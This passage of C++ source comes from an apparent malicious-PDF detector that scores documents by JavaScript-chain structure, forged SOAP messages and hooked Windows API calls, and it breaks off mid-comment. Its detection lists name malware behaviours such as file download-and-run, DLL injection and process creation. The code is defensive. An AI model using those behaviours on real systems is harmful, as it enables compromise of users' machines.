#include "trace/recorder.hpp"

namespace pdfshield::core::trace_replay {

/// Phase names used by FrontEnd's phase-span events (and by anything that
/// rebuilds PhaseTimings from a stream).
inline constexpr const char* kPhaseParseDecompress = "parse-decompress";
inline constexpr const char* kPhaseFeatureExtraction = "feature-extraction";
inline constexpr const char* kPhaseInstrumentation = "instrumentation";

/// A verdict reconstructed purely from feature-fire and soap-message
/// events (Eq. 1 + the §IV zero-tolerance rule).
struct ReplayedVerdict {
  bool malicious = false;
  double malscore = 0.0;
  bool active = false;        ///< at least one in-JS feature fired
  bool fake_message = false;  ///< unauthenticated non-foreign SOAP seen
  /// Distinct feature names that fired (feature_name() text, sorted).
  std::vector<std::string> features;
};

/// Replays Eq. 1 for `doc` from `events` under `config`'s weights:
/// distinct out-of-JS fires (static F1–F5 + F6/F7) weigh w1, distinct
/// in-JS fires (F8–F13) weigh w2, a forged SOAP message convicts
/// unconditionally, and a document with no in-JS fire scores zero.
ReplayedVerdict replay_verdict(const std::vector<trace::Event>& events,
                               const std::string& doc,
                               const DetectorConfig& config = {});

/// Rebuilds the Table-X phase timing breakdown for `doc` by summing the
/// elapsed times carried on phase-span end events.
PhaseTimings phase_timings_from_trace(const std::vector<trace::Event>& events,
                                      const std::string& doc);

/// Emits one feature-fire event (in_js = false) per positive Table-VII
/// static feature, under the recorder's current doc context. The front-end
/// calls this after extraction so a trace carries the full first summand
/// of Eq. 1, not just the runtime fires.
void emit_static_feature_fires(trace::Recorder& recorder,
                               const StaticFeatures& features);

}  // namespace pdfshield::core::trace_replay
