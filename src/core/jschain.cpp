#include "core/jschain.hpp"

#include <map>

#include "pdf/filters.hpp"

namespace pdfshield::core {

namespace {

/// Reads the Javascript text behind a /JS entry (string or stream).
std::string js_source_of(const pdf::Document& doc, const pdf::Object& js_value,
                         bool* in_stream, int* code_object) {
  *in_stream = false;
  if (js_value.is_ref()) *code_object = js_value.as_ref().num;
  const pdf::Object& resolved = doc.resolve(js_value);
  if (resolved.is_string()) {
    return support::to_string(resolved.as_string().data);
  }
  if (resolved.is_stream()) {
    *in_stream = true;
    try {
      return support::to_string(pdf::decode_stream(resolved.as_stream()));
    } catch (const support::Error&) {
      return support::to_string(resolved.as_stream().data);
    }
  }
  return {};
}

/// Object numbers directly referenced from a trigger entry point of the
/// catalog or a page (/OpenAction, /AA, /Names).
std::set<int> trigger_roots(const pdf::Document& doc) {
  std::set<int> roots;
  auto add_refs_from = [&](const pdf::Object& obj) {
    for (const pdf::Ref& r : pdf::collect_refs(obj)) roots.insert(r.num);
  };

  const pdf::Object* catalog = doc.catalog();
  if (catalog && (catalog->is_dict() || catalog->is_stream())) {
    const pdf::Dict& cat = catalog->dict_or_stream_dict();
    // The catalog itself is a root when it hosts trigger keys: a chain
    // that reaches it is trigger-associated.
    for (const char* key : {"OpenAction", "AA", "Names"}) {
      if (const pdf::Object* v = cat.find(key)) {
        // Inline action dictionaries: their refs are roots too.
        add_refs_from(*v);
        if (const pdf::Object* root_ref = doc.trailer().find("Root");
            root_ref && root_ref->is_ref()) {
          roots.insert(root_ref->as_ref().num);
        }
      }
    }
  }
  for (const auto& [num, obj] : doc.objects()) {
    if (!obj.is_dict()) continue;
    const pdf::Object* type = obj.as_dict().find("Type");
    const bool is_page = type && type->is_name() && type->as_name().value == "Page";
    const bool is_annot = type && type->is_name() && type->as_name().value == "Annot";
    if ((is_page || is_annot) &&
        (obj.as_dict().contains("AA") || obj.as_dict().contains("A"))) {
      roots.insert(num);
    }
  }
  return roots;
}

}  // namespace

JsChainAnalysis analyze_js_chains(const pdf::Document& doc) {
  JsChainAnalysis out;
  out.total_objects = doc.object_count();
  const pdf::ObjectGraph graph(doc);
  const std::set<int> roots = trigger_roots(doc);

  // Pass 1: find Javascript carriers (keyword scan for /JS and /JavaScript,
  // which the spec requires to be plain text).
  for (const auto& [num, obj] : doc.objects()) {
    if (!obj.is_dict() && !obj.is_stream()) continue;
    const pdf::Dict& dict = obj.dict_or_stream_dict();
    const pdf::Object* js = dict.find("JS");
    if (!js) continue;

    JsSite site;
    site.object_num = num;
    site.code_object = num;
    site.source = js_source_of(doc, *js, &site.code_in_stream, &site.code_object);
    out.sites.push_back(std::move(site));
  }

  // Pass 2: chains = ancestors + self + descendants.
  for (JsSite& site : out.sites) {
    site.chain = graph.ancestors(site.object_num);
    site.chain.insert(site.object_num);
    for (int d : graph.descendants(site.object_num)) site.chain.insert(d);
    for (int n : site.chain) out.chain_objects.insert(n);

    // Trigger association: chain touches a trigger root.
    for (int n : site.chain) {
      if (roots.count(n)) {
        site.triggered = true;
        break;
      }
    }
  }

  // Pass 3: sequence grouping. /Next chains: site A whose object references
  // site B through /Next shares a sequence. /Names lists: all entries of
  // the catalog's /JavaScript name tree share one sequence.
  std::map<int, std::size_t> site_by_num;
  for (std::size_t i = 0; i < out.sites.size(); ++i) {
    site_by_num[out.sites[i].object_num] = i;
  }
  std::map<std::size_t, int> assigned;
  int next_sequence = 0;

  auto assign = [&](std::size_t idx, int seq, int pos) {
    if (assigned.count(idx)) return;
    assigned[idx] = seq;
    out.sites[idx].sequence_id = seq;
    out.sites[idx].sequence_pos = pos;
  };

  // /Next chains.
  for (std::size_t i = 0; i < out.sites.size(); ++i) {
    if (assigned.count(i)) continue;
    const pdf::Object* obj = doc.object({out.sites[i].object_num, 0});
    if (!obj) continue;
    const pdf::Dict& dict = obj->dict_or_stream_dict();
    if (!dict.contains("Next")) continue;
    // Walk the chain from here; only start a sequence at heads (no /Next
    // pointing to us handled implicitly — duplicates are fine because
    // assign() is first-write-wins and we scan in object order).
    const int seq = next_sequence++;
    int pos = 0;
    int cur = out.sites[i].object_num;
    std::set<int> seen;
    while (seen.insert(cur).second) {
      auto it = site_by_num.find(cur);
      if (it != site_by_num.end()) assign(it->second, seq, pos++);
      const pdf::Object* cur_obj = doc.object({cur, 0});
      if (!cur_obj || (!cur_obj->is_dict() && !cur_obj->is_stream())) break;
      const pdf::Object* next = cur_obj->dict_or_stream_dict().find("Next");
      if (!next || !next->is_ref()) break;
      cur = next->as_ref().num;
    }
  }

  // /Names tree entries.
  const pdf::Object* catalog = doc.catalog();
  if (catalog && (catalog->is_dict() || catalog->is_stream())) {
    if (const pdf::Object* names =
            doc.resolved_find(catalog->dict_or_stream_dict(), "Names");
        names && names->is_dict()) {
      if (const pdf::Object* jstree = doc.resolved_find(names->as_dict(), "JavaScript");
          jstree && jstree->is_dict()) {
        if (const pdf::Object* list = doc.resolved_find(jstree->as_dict(), "Names");
            list && list->is_array()) {
          const int seq = next_sequence++;
          int pos = 0;
          bool used = false;
          for (std::size_t i = 1; i < list->as_array().size(); i += 2) {
            const pdf::Object& entry = list->as_array()[i];
            if (!entry.is_ref()) continue;
            auto it = site_by_num.find(entry.as_ref().num);
            if (it != site_by_num.end()) {
              assign(it->second, seq, pos++);
              used = true;
            }
          }
          if (!used) --next_sequence;
        }
      }
    }
  }

  // Singletons get their own sequence ids.
  for (std::size_t i = 0; i < out.sites.size(); ++i) {
    if (!assigned.count(i)) assign(i, next_sequence++, 0);
  }
  out.sequence_count = next_sequence;
  return out;
}

}  // namespace pdfshield::core
