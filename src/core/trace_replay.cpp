#include "core/trace_replay.hpp"

#include <set>

#include "support/strings.hpp"

namespace pdfshield::core::trace_replay {

ReplayedVerdict replay_verdict(const std::vector<trace::Event>& events,
                               const std::string& doc,
                               const DetectorConfig& config) {
  ReplayedVerdict out;
  std::set<std::string> out_js;  ///< static F1–F5 and out-of-JS F6/F7 fires
  std::set<std::string> in_js;   ///< F8–F13 fires
  for (const trace::Event& event : events) {
    if (event.doc != doc) continue;
    if (const auto* fire = std::get_if<trace::FeatureFire>(&event.payload)) {
      (fire->in_js ? in_js : out_js).insert(fire->feature);
    } else if (const auto* soap =
                   std::get_if<trace::SoapMessage>(&event.payload)) {
      if (!soap->authenticated && !soap->foreign) out.fake_message = true;
    }
  }
  out.active = !in_js.empty();
  for (const auto& f : out_js) out.features.push_back(f);
  for (const auto& f : in_js) out.features.push_back(f);

  // Same decision order as RuntimeDetector::malscore.
  if (out.fake_message) {
    out.malscore = config.threshold + config.w2;
  } else if (!out.active) {
    out.malscore = 0.0;
  } else {
    out.malscore = config.w1 * static_cast<double>(out_js.size()) +
                   config.w2 * static_cast<double>(in_js.size());
  }
  out.malicious = out.malscore >= config.threshold;
  return out;
}

PhaseTimings phase_timings_from_trace(const std::vector<trace::Event>& events,
                                      const std::string& doc) {
  PhaseTimings timings;
  for (const trace::Event& event : events) {
    if (event.doc != doc) continue;
    const auto* span = std::get_if<trace::PhaseSpan>(&event.payload);
    if (!span || span->begin) continue;
    if (span->phase == kPhaseParseDecompress) {
      timings.parse_decompress_s += span->elapsed_s;
    } else if (span->phase == kPhaseFeatureExtraction) {
      timings.feature_extraction_s += span->elapsed_s;
    } else if (span->phase == kPhaseInstrumentation) {
      timings.instrumentation_s += span->elapsed_s;
    }
  }
  return timings;
}

void emit_static_feature_fires(trace::Recorder& recorder,
                               const StaticFeatures& features) {
  auto fire = [&](Feature f, std::string why) {
    recorder.record(
        trace::FeatureFire{feature_name(f), std::move(why), /*in_js=*/false});
  };
  if (features.f1()) {
    fire(Feature::kF1_JsChainRatio,
         "js-chain ratio " + support::format_double(features.js_chain_ratio));
  }
  if (features.f2()) {
    fire(Feature::kF2_HeaderObfuscation, "obfuscated or missing %PDF header");
  }
  if (features.f3()) {
    fire(Feature::kF3_HexCode, "hex (#xx) code in chain keyword");
  }
  if (features.f4()) {
    fire(Feature::kF4_EmptyObjects,
         std::to_string(features.empty_object_count) +
             " empty objects on js chains");
  }
  if (features.f5()) {
    fire(Feature::kF5_EncodingLevels,
         std::to_string(features.max_encoding_levels) + " encoding levels");
  }
}

}  // namespace pdfshield::core::trace_replay
