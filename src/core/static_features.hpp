// The five novel static features of §III-B, plus the Table VII
// normalization rules that binarize them for the malscore.
//
//   F1  ratio of PDF objects on Javascript chains
//   F2  PDF header obfuscation (offset / invalid version / missing)
//   F3  hexadecimal (#xx) code in keywords on Javascript chains
//   F4  count of empty objects on Javascript chains
//   F5  maximum encoding (filter) levels on Javascript chains
#pragma once

#include <map>

#include "core/jschain.hpp"
#include "pdf/document.hpp"

namespace pdfshield::core {

struct StaticFeatures {
  double js_chain_ratio = 0.0;   ///< F1 raw value.
  bool header_obfuscated = false;  ///< F2.
  bool hex_code_in_keyword = false;  ///< F3.
  int empty_object_count = 0;    ///< F4 raw value.
  int max_encoding_levels = 0;   ///< F5 raw value.

  // Table VII normalization.
  bool f1() const { return js_chain_ratio >= 0.2; }
  bool f2() const { return header_obfuscated; }
  bool f3() const { return hex_code_in_keyword; }
  bool f4() const { return empty_object_count >= 1; }
  bool f5() const { return max_encoding_levels >= 2; }

  /// Number of positive static features (first summand of Eq. 1).
  int binary_sum() const {
    return static_cast<int>(f1()) + static_cast<int>(f2()) +
           static_cast<int>(f3()) + static_cast<int>(f4()) +
           static_cast<int>(f5());
  }
};

/// Snapshot of per-object filter-chain depths, taken before
/// decompress_all() strips /Filter entries (F5 needs the original chains).
using EncodingLevels = std::map<int, int>;
EncodingLevels snapshot_encoding_levels(const pdf::Document& doc);

/// Extracts F1–F5. Must run on the document *before* decompress_all()
/// normalizes streams away, or be given a pre-decompression
/// `encoding_levels` snapshot for F5.
StaticFeatures extract_static_features(const pdf::Document& doc,
                                       const JsChainAnalysis& chains,
                                       const EncodingLevels* encoding_levels = nullptr);

/// Convenience overload that analyzes chains itself.
StaticFeatures extract_static_features(const pdf::Document& doc);

}  // namespace pdfshield::core
