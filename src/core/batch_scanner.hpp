// Multi-threaded batch front-end (Fig. 1 at triage scale): a
// work-stealing scheduler feeds N workers, each owning a self-seeding
// FrontEnd, so a directory of candidate documents is scanned with
// per-document fault isolation and byte-identical output at any thread
// count (same detector id + same input => same instrumented bytes,
// regardless of scheduling — and regardless of which worker stole the
// document).
#pragma once

#include <cstdint>
#include <filesystem>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "core/pipeline.hpp"
#include "core/static_features.hpp"
#include "support/arena.hpp"
#include "support/bytes.hpp"
#include "support/json.hpp"
#include "trace/recorder.hpp"

namespace pdfshield::core {

class AbandonedRunners;  // internal: watchdog threads awaiting reclamation

/// Per-run plumbing shared by every worker of a batch run or serve
/// session: what to do with each document and where its events go.
struct BatchRunContext {
  bool keep_output = false;
  bool detonate = false;
  bool static_prefilter = false;
  std::string session;  ///< detector id, stamped on every event
  std::shared_ptr<trace::Sink> trace_sink;  ///< null when not traced
  std::shared_ptr<trace::CounterSink> counters;  ///< run-level per-kind totals
};

/// One unit of batch work: a named byte buffer (usually a file).
struct BatchItem {
  std::string name;
  support::Bytes data;
};

/// Per-document outcome inside a BatchReport.
struct BatchDocResult {
  std::string name;
  bool ok = false;
  bool timed_out = false;
  std::string error;  ///< parse/decode error text; empty when ok

  std::size_t input_bytes = 0;
  std::size_t output_bytes = 0;
  std::uint32_t output_crc32 = 0;  ///< checksum of instrumented bytes
  support::Bytes output;           ///< kept only with keep_outputs

  bool has_javascript = false;
  std::size_t scripts_instrumented = 0;
  std::size_t embedded_documents = 0;
  StaticFeatures features;
  bool suspicious = false;  ///< static screen: any positive F1–F5 feature
  std::string document_key;  ///< per-document half of the SOAP key
  PhaseTimings timings;

  /// Trace accounting (only populated when the run is traced): events this
  /// document's recorder stamped, and how many a bounded sink shed.
  std::uint64_t trace_events = 0;
  std::uint64_t trace_dropped = 0;

  /// Detonation outcome (only populated with BatchOptions::detonate): the
  /// runtime detector's verdict after opening the instrumented output in
  /// the simulated reader.
  bool detonated = false;
  bool malicious = false;
  double malscore = 0.0;

  /// Static-prefilter outcome (BatchOptions::static_prefilter): detonation
  /// was skipped because the jsstatic pass proved every script sink-free
  /// and indicator-free (and the document has no embedded PDFs). Skipped
  /// documents are benign by construction: detonated stays false and the
  /// static proof stands in for the runtime verdict.
  bool static_skipped = false;
};

/// Aggregate result of one batch run.
struct BatchReport {
  std::vector<BatchDocResult> docs;  ///< input order, not completion order
  std::string detector_id;
  std::size_t jobs = 0;

  std::size_t ok_count = 0;
  std::size_t error_count = 0;
  std::size_t timeout_count = 0;
  std::size_t suspicious_count = 0;
  std::size_t malicious_count = 0;  ///< detonation verdicts (detonate mode)
  std::size_t static_skipped_count = 0;  ///< prefilter-skipped detonations

  bool traced = false;     ///< a JSONL trace was written for this run
  bool detonated = false;  ///< documents were detonated after scanning
  bool static_prefilter = false;  ///< the jsstatic prefilter screened docs
  std::uint64_t trace_events = 0;   ///< summed across documents
  std::uint64_t trace_dropped = 0;
  /// Per-kind totals across the run (populated only when traced) — the
  /// CLI's per-run counter summary line.
  trace::CounterSnapshot trace_counters;

  double wall_s = 0;
  double docs_per_s = 0;
  PhaseTimings cpu_timings;  ///< summed across documents (CPU, not wall)

  support::Json to_json() const;
};

struct BatchOptions {
  std::size_t jobs = 1;           ///< worker threads
  std::size_t queue_capacity = 0;  ///< bounded queue size; 0 => 2 * jobs
  /// Per-document wall-clock budget in seconds; 0 disables the watchdog.
  /// A document that overruns is reported as timed_out and abandoned, so
  /// one pathological sample — parse loop, decompression bomb — fails
  /// alone instead of stalling the batch.
  double timeout_s = 0;
  /// After the batch finishes, abandoned runners get this shared window
  /// to wind down and be joined; whatever is still stuck afterwards is
  /// detached for good. Only relevant when timeout_s > 0.
  double abandon_grace_s = 1.0;
  /// Per-installation detector id; empty derives a fixed default so plain
  /// `pdfshield batch` runs are reproducible across invocations.
  std::string detector_id;
  /// Retain each instrumented output in BatchDocResult::output (memory
  /// proportional to the corpus; checksums are always recorded).
  bool keep_outputs = false;
  FrontEndOptions frontend;

  /// JSONL trace output path (`--trace out.jsonl`); empty disables
  /// tracing. Workers attach per-document recorders to one shared
  /// line-atomic sink, so the file interleaves documents but never lines.
  std::string trace_path;
  /// Detonate each document after instrumentation: a per-document Kernel +
  /// RuntimeDetector + ReaderSim opens the instrumented output, so the
  /// report carries runtime verdicts and the trace carries api-call /
  /// soap-message / doc-verdict events. Deterministic per (detector id,
  /// input bytes) — safe at any thread count.
  bool detonate = false;
  /// Run the jsstatic pass on every document (forces frontend.analyze_js)
  /// and skip detonation for documents statically proven clean — no code
  /// sink at any eval depth, no behavioural indicator, no embedded PDFs
  /// (jsstatic::Report::proven_clean). Anything short of a proof keeps the
  /// full detonation path, so malicious verdicts never change; the win is
  /// the skipped runtime cost on the benign bulk. Default off: reports and
  /// traces stay byte-identical.
  bool static_prefilter = false;
};

/// Runs the front-end (and, per `ctx`, detonation / the static prefilter)
/// over one named document with exception isolation: a throwing
/// parser/instrumenter yields a per-document error, never a dead run.
/// This is THE per-document execution path — the batch scanner and the
/// serve-mode ScanService both call it, so one-shot and service verdicts
/// agree byte for byte by construction. `arena` is an optional reusable
/// parse arena (reset by the caller between documents); null parses into
/// a private arena that dies with the document.
BatchDocResult run_document(const FrontEnd& frontend, std::string_view name,
                            support::BytesView data,
                            const BatchRunContext& ctx,
                            const support::ArenaHandle& arena = nullptr);

class BatchScanner {
 public:
  explicit BatchScanner(BatchOptions options = {});

  /// Scans in-memory items. Results come back in item order.
  BatchReport scan(const std::vector<BatchItem>& items);

  /// Scans every regular file under `dir` (recursive, sorted by path for
  /// deterministic report order); non-PDF payloads simply fail per-doc.
  BatchReport scan_directory(const std::filesystem::path& dir);

  const std::string& detector_id() const { return options_.detector_id; }

 private:
  /// `arena` is this worker's reusable parse arena; it is used (and then
  /// reset) only on the no-watchdog path, where the document provably dies
  /// inside the call. Watchdog runners may outlive the batch, so they
  /// always parse into private per-call arenas instead.
  BatchDocResult scan_one(const FrontEnd& frontend, const BatchItem& item,
                          const BatchRunContext& ctx,
                          AbandonedRunners& abandoned,
                          const support::ArenaHandle& arena) const;

  BatchOptions options_;
};

}  // namespace pdfshield::core
