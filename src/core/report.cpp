#include "core/report.hpp"

namespace pdfshield::core {

using support::Json;

Json document_report(const RuntimeDetector& detector,
                     const InstrumentationKey& key) {
  Json report = Json::object();
  const DocumentState* state = detector.state(key);
  if (!state) {
    report["known"] = false;
    return report;
  }
  const Verdict verdict = detector.verdict(key);
  report["known"] = true;
  report["document"] = state->name;
  report["verdict"] = verdict.malicious ? "malicious" : "benign";
  report["malscore"] = verdict.malscore;
  report["threshold"] = detector.config().threshold;
  report["alerted"] = state->alerted;
  report["forged_soap_traffic"] = state->fake_message;

  Json statics = Json::object();
  statics["F1_js_chain_ratio"] = state->static_features.js_chain_ratio;
  statics["F2_header_obfuscation"] = state->static_features.f2();
  statics["F3_hex_code_in_keyword"] = state->static_features.f3();
  statics["F4_empty_objects"] = state->static_features.empty_object_count;
  statics["F5_encoding_levels"] = state->static_features.max_encoding_levels;
  report["static_features"] = std::move(statics);

  Json runtime = Json::array();
  for (Feature f : state->runtime_features) runtime.push_back(feature_name(f));
  report["runtime_features"] = std::move(runtime);

  Json evidence = Json::array();
  for (const auto& line : state->evidence) evidence.push_back(line);
  report["evidence"] = std::move(evidence);
  if (state->evidence_overflow > 0) {
    report["evidence_overflow"] =
        static_cast<std::uint64_t>(state->evidence_overflow);
  }

  Json dropped = Json::array();
  for (const auto& path : state->dropped_files) dropped.push_back(path);
  report["dropped_files"] = std::move(dropped);
  if (state->dropped_files_overflow > 0) {
    report["dropped_files_overflow"] =
        static_cast<std::uint64_t>(state->dropped_files_overflow);
  }
  return report;
}

Json session_report(const RuntimeDetector& detector, const sys::Kernel& kernel) {
  Json report = Json::object();
  report["detector_id"] = detector.detector_id();

  Json alerts = Json::array();
  for (const auto& name : detector.alerts()) alerts.push_back(name);
  report["alerts"] = std::move(alerts);

  Json executables = Json::array();
  for (const auto& exe : detector.downloaded_executables()) {
    executables.push_back(exe);
  }
  report["tracked_executables"] = std::move(executables);

  Json quarantined = Json::array();
  Json sandboxed = Json::array();
  for (const auto& path : kernel.fs().list()) {
    if (sys::VirtualFileSystem::is_quarantined(path)) quarantined.push_back(path);
  }
  for (const auto& [pid, proc] : kernel.processes()) {
    if (proc->sandboxed()) {
      Json p = Json::object();
      p["pid"] = pid;
      p["image"] = proc->image();
      p["terminated"] = proc->terminated();
      sandboxed.push_back(std::move(p));
    }
  }
  report["quarantined_files"] = std::move(quarantined);
  report["sandboxed_processes"] = std::move(sandboxed);
  if (kernel.dropped_events() > 0) {
    report["trace_events_dropped"] = kernel.dropped_events();
  }
  return report;
}

}  // namespace pdfshield::core
