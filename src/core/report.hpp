// User-facing alert reporting (§III-E: "When an alert is raised, we report
// the malscore, associated features, and the detected malicious PDFs to
// users"). Builds a structured JSON report from detector state plus the
// kernel's confinement record.
#pragma once

#include <string>

#include "core/detector.hpp"
#include "support/json.hpp"

namespace pdfshield::core {

/// Report for one document (any verdict).
support::Json document_report(const RuntimeDetector& detector,
                              const InstrumentationKey& key);

/// Session report: every alert plus the confinement ledger (quarantined
/// files, sandboxed processes, persistent executable list).
support::Json session_report(const RuntimeDetector& detector,
                             const sys::Kernel& kernel);

}  // namespace pdfshield::core
