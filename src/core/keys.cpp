#include "core/keys.hpp"

#include <cctype>

namespace pdfshield::core {

namespace {
constexpr std::size_t kPartLength = 16;

bool is_hex_part(const std::string& s) {
  if (s.size() != kPartLength) return false;
  for (char c : s) {
    if (!std::isxdigit(static_cast<unsigned char>(c))) return false;
  }
  return true;
}
}  // namespace

std::optional<InstrumentationKey> InstrumentationKey::parse(
    const std::string& text) {
  const std::size_t dash = text.find('-');
  if (dash == std::string::npos) return std::nullopt;
  InstrumentationKey key;
  key.detector_id = text.substr(0, dash);
  key.document_key = text.substr(dash + 1);
  if (!is_hex_part(key.detector_id) || !is_hex_part(key.document_key)) {
    return std::nullopt;
  }
  return key;
}

std::string generate_detector_id(support::Rng& rng) {
  return rng.hex_string(kPartLength);
}

InstrumentationKey generate_document_key(support::Rng& rng,
                                         const std::string& detector_id) {
  InstrumentationKey key;
  key.detector_id = detector_id;
  key.document_key = rng.hex_string(kPartLength);
  return key;
}

}  // namespace pdfshield::core
