// De-instrumentation policy (§III-F): once a document has been classified
// benign, monitoring it again on every open is wasted overhead — the
// system removes the context monitoring code in the background after the
// reader closes. The paper notes that de-instrumenting at once is a simple
// heuristic and suggests a configurable open count plus randomization
// (so an attacker cannot count on monitoring disappearing after exactly
// one clean open); both knobs are implemented here.
#pragma once

#include <map>
#include <string>

#include "core/instrumenter.hpp"
#include "support/rng.hpp"

namespace pdfshield::core {

struct DeinstrumentationPolicy {
  /// Consecutive benign opens required before de-instrumenting.
  int benign_opens_required = 1;
  /// Randomization: probability of keeping the monitoring code for one
  /// more open even after the threshold is met.
  double keep_probability = 0.0;
};

/// Tracks per-document benign-open streaks and applies the policy.
class DeinstrumentationManager {
 public:
  explicit DeinstrumentationManager(DeinstrumentationPolicy policy = {})
      : policy_(policy) {}

  /// Records a clean open/close cycle for `doc_key`. Returns true when the
  /// document should now be de-instrumented.
  bool note_benign_open(const std::string& doc_key, support::Rng& rng);

  /// Any suspicious signal resets the streak (and the document obviously
  /// stays instrumented).
  void note_suspicious(const std::string& doc_key);

  /// Current clean streak for a document (0 if unknown).
  int benign_streak(const std::string& doc_key) const;

  const DeinstrumentationPolicy& policy() const { return policy_; }

 private:
  DeinstrumentationPolicy policy_;
  std::map<std::string, int> streaks_;
};

/// Convenience: parses `instrumented_file`, restores the original scripts
/// recorded in `record`, and re-serializes. This is the background
/// de-instrumentation job the paper schedules after the reader closes.
support::Bytes deinstrument_file(support::BytesView instrumented_file,
                                 const InstrumentationRecord& record);

}  // namespace pdfshield::core
