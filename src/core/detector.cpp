#include "core/detector.hpp"

#include <algorithm>

namespace pdfshield::core {

using js::Value;

std::string feature_name(Feature f) {
  switch (f) {
    case Feature::kF1_JsChainRatio: return "F1:js-chain-ratio";
    case Feature::kF2_HeaderObfuscation: return "F2:header-obfuscation";
    case Feature::kF3_HexCode: return "F3:hex-code-in-keyword";
    case Feature::kF4_EmptyObjects: return "F4:empty-objects";
    case Feature::kF5_EncodingLevels: return "F5:encoding-levels";
    case Feature::kF6_OutJsProcessCreation: return "F6:outjs-process-creation";
    case Feature::kF7_OutJsDllInjection: return "F7:outjs-dll-injection";
    case Feature::kF8_MemoryConsumption: return "F8:js-memory-consumption";
    case Feature::kF9_NetworkAccess: return "F9:js-network-access";
    case Feature::kF10_MappedMemorySearch: return "F10:js-mapped-memory-search";
    case Feature::kF11_MalwareDropping: return "F11:js-malware-dropping";
    case Feature::kF12_ProcessCreation: return "F12:js-process-creation";
    case Feature::kF13_DllInjection: return "F13:js-dll-injection";
  }
  return "F?:unknown";
}

namespace {

bool is_drop_api(const std::string& api) {
  return api == "NtCreateFile" || api == "URLDownloadToFile" ||
         api == "URLDownloadToCacheFile";
}
bool is_network_api(const std::string& api) {
  return api == "connect" || api == "listen";
}
bool is_hunt_api(const std::string& api) {
  return api == "NtAccessCheckAndAuditAlarm" || api == "IsBadReadPtr" ||
         api == "NtDisplayString" || api == "NtAddAtom";
}
bool is_process_api(const std::string& api) {
  return api == "NtCreateProcess" || api == "NtCreateProcessEx" ||
         api == "NtCreateUserProcess";
}
bool is_inject_api(const std::string& api) {
  return api == "CreateRemoteThread";
}

bool looks_like_executable(const std::string& path) {
  const auto ends_with = [&](const char* suffix) {
    const std::size_t n = std::string(suffix).size();
    return path.size() >= n &&
           path.compare(path.size() - n, n, suffix) == 0;
  };
  return ends_with(".exe") || ends_with(".dll") || ends_with(".scr") ||
         ends_with(".com") || ends_with(".bat");
}

}  // namespace

RuntimeDetector::RuntimeDetector(sys::Kernel& kernel, support::Rng& rng,
                                 DetectorConfig config)
    : kernel_(kernel),
      config_(std::move(config)),
      detector_id_(generate_detector_id(rng)) {
  kernel_.trace().set_session(detector_id_);
}

RuntimeDetector::RuntimeDetector(sys::Kernel& kernel, DetectorConfig config,
                                 std::string detector_id)
    : kernel_(kernel),
      config_(std::move(config)),
      detector_id_(std::move(detector_id)) {
  kernel_.trace().set_session(detector_id_);
}

void RuntimeDetector::register_document(const InstrumentationKey& key,
                                        const std::string& name,
                                        const StaticFeatures& features) {
  DocumentState state;
  state.name = name;
  state.static_features = features;
  docs_[key.combined()] = std::move(state);
}

void RuntimeDetector::attach(reader::ReaderSim& reader) {
  reader_pid_ = reader.pid();
  // AppInit trampoline has already run (the reader process exists); install
  // the hook set — one hook per monitored API. Kernel-mode hooks are
  // system-wide but the decision logic only reacts to the reader's pid.
  for (const std::string& api : sys::Kernel::api_surface()) {
    auto hook = [this](const sys::ApiEvent& event) {
      if (event.pid != reader_pid_) return sys::ApiOutcome::kAllow;
      return hook_decision(event);
    };
    if (config_.hook_mode == DetectorConfig::HookMode::kKernelMode) {
      kernel_.install_kernel_hook(api, hook);
    } else {
      kernel_.install_hook(reader_pid_, api, hook);
    }
  }
  const std::string prefix =
      config_.soap_url.substr(0, config_.soap_url.rfind('/') + 1);
  reader.set_soap_endpoint(prefix,
                           [this](const Value& payload) { return handle_soap(payload); });
  reader.on_crash = [this] { on_reader_crash(); };
}

void RuntimeDetector::on_reader_crash() {
  if (DocumentState* doc = current_in_js_doc()) {
    check_memory(*doc);
    doc->in_js = false;
    evaluate(current_js_key_, *doc);
  }
  current_js_key_.clear();
}

// ---------------------------------------------------------------------------
// SOAP server
// ---------------------------------------------------------------------------

Value RuntimeDetector::handle_soap(const Value& payload) {
  auto respond = [](const std::string& status) {
    auto obj = js::make_object();
    obj->set("status", Value(status));
    return Value(obj);
  };

  std::string op;
  std::string key_text;
  if (payload.is_object()) {
    const Value op_v = payload.as_object()->get("op");
    const Value key_v = payload.as_object()->get("key");
    if (op_v.is_string()) op = op_v.as_string();
    if (key_v.is_string()) key_text = key_v.as_string();
  }

  const std::optional<InstrumentationKey> key = InstrumentationKey::parse(key_text);

  // Foreign instrumentation: a well-formed key minted by a different
  // installation. Filtered out silently (§III-C: the Detector ID field
  // exists exactly for this), NOT treated as an attack.
  if (key && key->detector_id != detector_id_) {
    kernel_.trace().record(
        trace::SoapMessage{op, /*authenticated=*/false, /*foreign=*/true});
    return respond("rejected");
  }

  const bool authenticated = key && docs_.count(key->combined()) > 0 &&
                             (op == "enter" || op == "exit");
  if (!authenticated) {
    // Zero tolerance (§IV): a malformed message, an unknown document key
    // under OUR detector id, or a bogus op is a forgery attempt. It
    // convicts the active document — PDF readers are single-threaded, so
    // the currently-in-JS document is the sender.
    DocumentState* doc = current_in_js_doc();
    kernel_.trace().record_for(
        doc ? doc->name : kernel_.trace().doc(),
        trace::SoapMessage{op, /*authenticated=*/false, /*foreign=*/false});
    if (doc) {
      doc->fake_message = true;
      note_evidence(*doc, "fake or malformed SOAP message");
      evaluate(current_js_key_, *doc);
    }
    return respond("rejected");
  }

  DocumentState& doc = docs_[key->combined()];
  sys::Process* proc = kernel_.process(reader_pid_);
  const std::uint64_t mem = proc ? proc->memory_bytes() : 0;
  kernel_.trace().record_for(
      doc.name, trace::SoapMessage{op, /*authenticated=*/true,
                                   /*foreign=*/false});
  kernel_.trace().record_for(doc.name, trace::JsContext{op == "enter", mem});

  if (op == "enter") {
    doc.in_js = true;
    doc.memory_at_enter = mem;
    current_js_key_ = key->combined();
  } else {
    check_memory(doc);
    doc.in_js = false;
    if (current_js_key_ == key->combined()) current_js_key_.clear();
    evaluate(key->combined(), doc);
  }
  return respond("ok");
}

// ---------------------------------------------------------------------------
// Hook channel
// ---------------------------------------------------------------------------

DocumentState* RuntimeDetector::current_in_js_doc() {
  if (current_js_key_.empty()) return nullptr;
  auto it = docs_.find(current_js_key_);
  return it == docs_.end() ? nullptr : &it->second;
}

sys::ApiOutcome RuntimeDetector::hook_decision(const sys::ApiEvent& event) {
  DocumentState* js_doc = current_in_js_doc();
  const bool in_js = js_doc != nullptr;

  if (event.post) {
    // Post-call phase: the native API has run. For drops by an alerted
    // document, isolate the file now that it actually exists (Table III:
